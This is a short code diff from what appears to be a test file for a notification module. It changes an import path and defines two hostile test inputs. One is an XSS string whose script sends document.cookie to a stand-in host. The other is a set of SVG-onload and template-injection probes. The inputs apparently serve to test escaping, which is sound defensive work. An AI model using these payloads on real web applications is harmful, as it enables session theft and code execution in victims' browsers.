@@ -11,7 +11,7 @@ import {
   OPERATOR_TOKEN,
   startNotification,
   worldOf,
-} from '../../notification-under-test.js';
+} from '../../notification.rig.js';
 
 const XSS = `<img src=x onerror=alert(1)><script>fetch('//e/'+document.cookie)</script>`;
 const TEMPLATE = "\"><svg/onload=alert`1`>{{constructor.constructor('alert(1)')()}}${7*7}#{7*7}<%= 7*7 %>";
